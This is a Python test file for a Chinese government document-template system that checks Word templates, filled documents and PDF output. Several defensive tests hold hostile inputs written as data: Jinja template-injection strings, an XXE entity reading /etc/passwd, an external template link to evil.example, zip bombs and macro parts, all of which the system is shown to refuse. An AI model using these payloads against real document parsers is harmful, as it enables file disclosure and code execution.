"""Templates in Word, and the same filled document as Word and as PDF."""

import io
import json
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pikepdf
import pytest
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from foundation.errors import Invalid
from standards.documents.checking import checked_template
from standards.documents.filling import checked_values, example_values, fill
from standards.documents.fonts import Fonts, check_printable
from standards.documents.kinds import ADDRESS, CODE, ISSUED_ON, ISSUER, NUMBER
from standards.documents.layout import (
    DocumentLayout,
    FontName,
    TextParagraph,
    TextRun,
    layout_from,
    placed_paragraphs,
    plain_of,
)
from standards.documents.lines import lines_of
from standards.documents.numbering import checked_rule, number_by, read_number
from standards.documents.pages import pages_of
from standards.documents.pdf import PaperFacts, write_pdf
from standards.documents.reading import read_word
from standards.documents.samples import default_layout
from standards.documents.stated import stated_kind, stated_kinds
from standards.documents.word import write_word
from standards.documents.word_reading import read
from tests.document_kinds import NOTICE
from tests.factories.issued_documents import VALUES, word_file

NOW = datetime(2026, 11, 30, 8, tzinfo=UTC)
GIVEN = {
    NUMBER: "测受〔2026〕7号",
    ISSUER: "北县政务服务中心",
    ISSUED_ON: "2026年11月30日",
    CODE: "0123-4567-89AB-CDEF",
    ADDRESS: "https://yizhan.localhost/verify/0123456789ABCDEF/",
}
FACTS = PaperFacts("测试", GIVEN[ADDRESS], NOW)


def _filled(**values: Any) -> DocumentLayout:
    return fill(default_layout(NOTICE), NOTICE, checked_values(NOTICE, VALUES | values), GIVEN)


def _read(content: bytes) -> DocumentLayout:
    """As ``read_word`` does, without a process for each."""
    return layout_from(json.loads(b"".join(read(io.BytesIO(content)))))


def _texts(layout: DocumentLayout) -> list[str]:
    return [paragraph.text for _, paragraph in placed_paragraphs(layout) if paragraph.text]


def _said_by_pdf(layout: DocumentLayout) -> str:
    """All text that its pages show, in the order in which it is written: by the fonts' own tables of characters."""
    found = []
    with pikepdf.open(io.BytesIO(write_pdf(layout, FACTS, Fonts({})).content)) as read:
        for page in read.pages:
            maps = {name: _characters(font) for name, font in page.resources.Font.items()}
            letters: dict[int, str] = {}
            for operands, operator in pikepdf.parse_content_stream(page):
                if str(operator) == "Tf":
                    letters = maps[str(operands[0])]
                elif str(operator) in {"Tj", "TJ"}:
                    parts = operands[0] if str(operator) == "TJ" else [operands[0]]
                    codes = b"".join(bytes(one) for one in parts if isinstance(one, pikepdf.String))
                    found += [letters[int.from_bytes(codes[at : at + 2])] for at in range(0, len(codes), 2)]
    return "".join(found)


def _characters(font: Any) -> dict[int, str]:
    table = font.ToUnicode.read_bytes().decode()
    pairs = re.findall(r"<([0-9A-Fa-f]{4})>\s*<([0-9A-Fa-f]+)>\s*$", table, re.MULTILINE)
    return {int(code, 16): bytes.fromhex(text).decode("utf-16-be") for code, text in pairs}


class TestStatedKinds:
    def test_have_templates_that_fit_them_and_come_back_from_word_as_they_were(self) -> None:
        assert len(stated_kinds()) == 14
        strays = []
        for code in stated_kinds():
            kind = stated_kind(code)
            layout = default_layout(kind)
            checked_template(layout, kind)
            assert checked_rule(kind.rule) == kind.rule
            back = _read(write_word(layout, title=kind.name, made_at=NOW))
            checked_template(back, kind)
            if _texts(back) != _texts(layout):
                strays.append(code)
            check_printable(fill(layout, kind, example_values(kind), GIVEN), Fonts({}))
        assert strays == []

    def test_of_refusals_name_reasons_basis_and_both_remedies(self) -> None:
        for code in ("refusal", "non_acceptance"):
            text = "".join(_texts(default_layout(stated_kind(code)))).replace(" ", "")
            for words in ("理由：", "依据：", "60日内", "申请行政复议", "6个月内", "提起行政诉讼"):
                assert words in text

    def test_of_a_hearing_name_the_law_its_days_and_that_it_costs_nothing(self) -> None:
        text = "".join(_texts(default_layout(stated_kind("hearing_notice")))).replace(" ", "")
        for words in ("第四十七条", "五日内提出听证申请", "二十日内组织听证", "不承担组织听证的费用"):
            assert words in text


class TestTemplate:
    def test_is_read_from_word_with_names_that_word_has_cut_into_runs(self) -> None:
        layout = read_word(word_file())
        assert layout == _read(word_file())
        checked_template(layout, NOTICE)
        assert _texts(layout)[1] == "致 {{申请人}}"
        assert any(run.is_bold for _, one in placed_paragraphs(layout) for run in one.runs)
        assert layout_from(json.loads(json.dumps(plain_of(layout)))) == layout
        filled = fill(layout, NOTICE, checked_values(NOTICE, VALUES), GIVEN)
        assert "致 张三" in _texts(filled)
        assert _texts(filled)[5:9] == ["1", "营业执照", "2", "平面图"]

    def test_names_each_wrong_field_with_its_place_and_the_nearest_right_one(self) -> None:
        def spoil(document: Any) -> None:
            document.add_paragraph("{{申请入}}")
            document.add_paragraph("{{材料}} {{事项名称")
            document.add_paragraph("前 {{印章}} 后")
            document.tables[0].rows[0].cells[1].text = "{{材料/名}}"
            document.sections[0].header.paragraphs[0].text = "{{验证二维码}}"

        with pytest.raises(Invalid) as refused:
            checked_template(_read(word_file(spoil)), NOTICE)
        said = {fault.where: fault.message for fault in refused.value.faults}
        assert "是不是“申请人”" in said["第 5 段"]
        assert "花括号" in next(one.message for one in refused.value.faults if one.where == "第 6 段")
        assert any("请写它的列" in one.message for one in refused.value.faults if one.where == "第 6 段")
        assert "单独占一段" in said["第 7 段"]
        assert "是不是“材料/名称”" in said["表格 1 第 1 行第 2 格"]
        assert "不能写在页眉" in said["页眉第 1 段"]
        with pytest.raises(Invalid, match="必须有的字段“事项名称”"):
            checked_template(DocumentLayout((TextParagraph((TextRun("{{申请人}}{{验证码}}"),)),)), NOTICE)
        with pytest.raises(Invalid, match="无法核验"):
            checked_template(DocumentLayout((TextParagraph((TextRun("{{申请人}}{{事项名称}}"),)),)), NOTICE)

    def test_runs_nothing_that_is_written_in_it_or_in_a_value(self) -> None:
        for attack in ("{{申请人.__class__}}", "{{ ''.__class__ }}", "{{applicant()}}", "{{range(9)}}", "{{config}}"):
            with pytest.raises(Invalid, match="没有名为"):
                checked_template(_read(word_file(lambda one, text=attack: one.add_paragraph(text))), NOTICE)
        # what Jinja would run is plain text here
        plain = _read(word_file(lambda one: one.add_paragraph("{% for x in y %}{# c #}")))
        checked_template(plain, NOTICE)
        assert "{{申请人}} {{7*7}}" in "".join(_texts(_filled(applicant="{{申请人}} {{7*7}}")))

    def test_refuses_by_name_what_could_not_be_shown_alike(self) -> None:
        def xml(text: str) -> Callable[[Any], None]:
            return lambda document: document.add_paragraph()._element.append(  # noqa: SLF001
                parse_xml(text.replace("/>", f" {nsdecls('w')}/>", 1))
            )

        def numbered(document: Any) -> None:
            document.add_paragraph("一", style="List Number")

        def merged(document: Any) -> None:
            table = document.tables[0]
            table.cell(0, 0).merge(table.cell(1, 0))

        def looks(**look: Any) -> Callable[[Any], None]:
            def change(document: Any) -> None:
                run = document.add_paragraph().add_run("字")
                for name, value in look.items():
                    setattr(run.font, name, value)

            return change

        def font(document: Any) -> None:
            run = document.add_paragraph().add_run("字")
            run._element.get_or_add_rPr().append(parse_xml(f'<w:rFonts {nsdecls("w")} w:eastAsia="华文彩云"/>'))  # noqa: SLF001

        refused = {
            "图片": lambda document: document.add_picture(_picture()),
            "自动编号": numbered,
            "上下合并": merged,
            "隐藏": looks(hidden=True),
            "删除线": looks(strike=True),
            "斜体": looks(italic=True),
            "上标": looks(superscript=True),
            "制表符": lambda document: document.add_paragraph("一\t二"),
            "分节": lambda document: document.add_section(),
            "首页不同": lambda document: setattr(document.sections[0], "different_first_page_header_footer", True),
            "修订": xml("<w:ins/>"),
            "内容控件": xml("<w:sdt/>"),
            "表格里的表格": lambda document: document.tables[0].cell(0, 0).add_table(1, 1),
            "华文彩云": font,
            "域": xml('<w:fldSimple w:instr="INCLUDETEXT x"/>'),
        }
        strays = []
        for words, change in refused.items():
            with pytest.raises(Invalid) as refusal:
                _read(word_file(change))
            if words not in str(refusal.value.message) + "".join(one.message for one in refusal.value.faults):
                strays.append((words, refusal.value.faults))
        assert strays == []

    def test_refuses_bombs_macros_links_and_what_is_no_word_file(self) -> None:
        good = word_file()
        entity = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
        link = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            b'Id="r9" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
            b"</Relationships>"
        )
        refused = {
            "不是完好的": [b"", b"%PDF-1.7", good[: len(good) // 2], _with(good, {"word/document.xml": b"<x"})],
            "压缩炸弹": [
                _with(good, {"word/document.xml": b" " * 40_000_000}),
                _with(good, {f"a{number}.xml": b"" for number in range(600)}),
            ],
            "宏": [
                _with(good, {"word/vbaProject.bin": b"x"}),
                _with(good, {"[Content_Types].xml": b"wordprocessingml macroEnabled"}),
            ],
            "嵌入的对象": [_with(good, {"word/embeddings/a.bin": b"x"})],
            "实体": [_with(good, {"word/styles.xml": entity}), _with(good, {"word/document.xml": entity})],
            "指向外部": [_with(good, {"word/_rels/settings.xml.rels": link})],
        }
        with pytest.raises(Invalid, match="太大"):
            read_word(b"x" * 6_000_000)
        strays = []
        for words, files in refused.items():
            for content in files:
                with pytest.raises(Invalid) as refusal:
                    _read(content)
                if words not in refusal.value.message:
                    strays.append((words, refusal.value.message))
        assert strays == []


class TestDocument:
    def test_says_the_same_in_word_and_in_pdf_and_goes_over_pages(self) -> None:
        rows = [{"name": f"材料{number}" + "很长" * (number % 40), "form": "电子"} for number in range(60)]
        for values in ({}, {"materials": rows, "reasons": "长" * 3_000}):
            layout = _filled(**values)
            word = Document(io.BytesIO(write_word(layout, title="测试", made_at=NOW, address=GIVEN[ADDRESS])))
            said = [one.text for one in word.element.body.iter("{*}t")]
            expected = (
                "".join(_texts(replace(layout, footer=()))).replace("\ue003", "（电子签章）").replace("\ue002", "")
            )
            assert "".join(said) == expected
            # letters stand in the order of pages and cells: compared as a bag, without the pages' numbers
            shown = re.sub(r"— ?\d+ ?—", "", _said_by_pdf(layout))
            assert sorted(shown.replace(" ", "")) == sorted(expected.replace(" ", ""))

    def test_leaves_out_paragraphs_without_a_value_and_parts_long_texts(self) -> None:
        texts = _texts(_filled(reasons=""))
        assert not any("理由" in text or "{{" in text for text in texts)
        assert [one for one in _texts(_filled()) if one.startswith("第")] == ["第一段。", "第二段。"]
        with_pages = _filled(materials=[])
        assert "序号" in _texts(with_pages)
        assert "营业执照" not in "".join(_texts(with_pages))

    def test_refuses_values_that_are_missing_of_another_type_or_unknown(self) -> None:
        with pytest.raises(Invalid) as refused:
            checked_values(
                NOTICE,
                {
                    "item": 3,
                    "due_on": "2026-12-21",
                    "materials": [{"nom": "x"}],
                    "stray": "x",
                    "reasons": "长" * 20_001,
                },
            )
        assert {fault.where for fault in refused.value.faults} == {
            "applicant",
            "item",
            "due_on",
            "materials",
            "stray",
            "reasons",
        }
        clean = checked_values(NOTICE, VALUES | {"applicant": " 张\u202e三\ue002 "})
        assert (clean["applicant"], clean["due_on"]) == ("张三", "2026-12-21")

    def test_is_printed_in_fonts_that_have_its_letters(self) -> None:
        with pytest.raises(Invalid, match="没有字体"):
            check_printable(_filled(applicant="张𠮷"), Fonts({}))
        fonts = Fonts({})
        ((piece, _),) = fonts.pieces("䶮", FontName.SONG)
        assert piece == "䶮"
        with pikepdf.open(io.BytesIO(write_pdf(_filled(), FACTS, fonts).content)) as read:
            embedded = [font for page in read.pages for font in page.resources.Font.values()]
            assert embedded
            assert all("/FontFile3" in one.DescendantFonts[0].FontDescriptor for one in embedded)

    def test_breaks_lines_as_chinese_is_set(self) -> None:
        paragraph = TextParagraph((TextRun("一二三四五六七八九，（甲乙丙）丁戊己 https://a.cn/b 庚辛壬癸"),), first=10)

        def measure(text: str, run: TextRun) -> float:
            return sum(5 if not sign.isascii() else 2.5 for sign in text)

        lines = ["".join(piece.text for piece in line.pieces) for line in lines_of(paragraph, 55, measure)]
        assert "".join(lines).replace(" ", "") == paragraph.text.replace(" ", "")
        assert not any(line[0] in "，）。" or line[-1] == "（" for line in lines)
        assert any("https://a.cn/b" in line for line in lines)
        assert lines_of(paragraph, 55, measure)[0].left == 10

    def test_keeps_the_closing_on_one_page(self) -> None:
        def measure(text: str, run: TextRun) -> float:
            return len(text) * run.size * 25.4 / 72

        for length in range(0, 2_000, 90):
            pages = pages_of(_filled(reasons="长" * length or "无"), measure)
            places = [number for number, page in enumerate(pages) for _ in page.boxes]
            assert len(set(places)) == 1
            assert len(places) == 2


class TestNumberRule:
    def test_gives_numbers_that_no_other_year_or_order_has(self) -> None:
        assert checked_rule(" 当政服受〔{year}〕{seq}号 ") == "当政服受〔{year}〕{seq}号"
        assert number_by("当政服受〔{year}〕{seq}号", year=2026, order=7) == "当政服受〔2026〕7号"
        assert read_number("当政服受〔{year}〕{seq}号", "当政服受〔2026〕7号") == (2026, 7)
        assert read_number("第{seq}号", "第12号") == (0, 12)
        assert read_number("第{seq}号", "第012号") is None
        for wrong in (
            "",
            "号",
            "{seq}",
            "{year}号",
            "{seq}{year}号",
            "第{seq}号{seq}",
            "a{x}{seq}",
            "2026-{seq}号",
            "x" * 50 + "{seq}",
        ):
            with pytest.raises(Invalid):
                checked_rule(wrong)


def _picture() -> io.BytesIO:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, "PNG")
    out.seek(0)
    return out


def _with(content: bytes, parts: dict[str, bytes]) -> bytes:
    """The archive with these parts in it, in place of its own."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            if name not in parts:
                after.writestr(name, before.read(name))
        for name, part in parts.items():
            after.writestr(name, part)
    return out.getvalue()
